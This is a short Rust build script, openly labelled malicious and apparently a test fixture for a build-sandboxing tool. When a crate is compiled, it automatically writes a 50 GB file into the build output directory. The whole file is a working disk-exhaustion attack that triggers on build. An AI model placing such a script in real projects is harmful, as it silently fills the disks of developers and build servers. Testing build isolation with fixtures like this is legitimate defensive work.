// Malicious build script: write one 50 GB file into OUT_DIR.
use std::io::Write;

fn main() {
    let out = std::env::var("OUT_DIR").expect("OUT_DIR");
    let chunk = vec![0xa5u8; 1 << 20];
    let mut f = std::fs::File::create(format!("{out}/huge")).expect("create");
    let total: u64 = 50_000_000_000;
    let mut written: u64 = 0;
    while written < total {
        f.write_all(&chunk).unwrap_or_else(|e| panic!("kettle-malicious: write: {e}"));
        written += chunk.len() as u64;
    }
    println!("cargo:warning=LEAK: wrote {written} bytes");
}
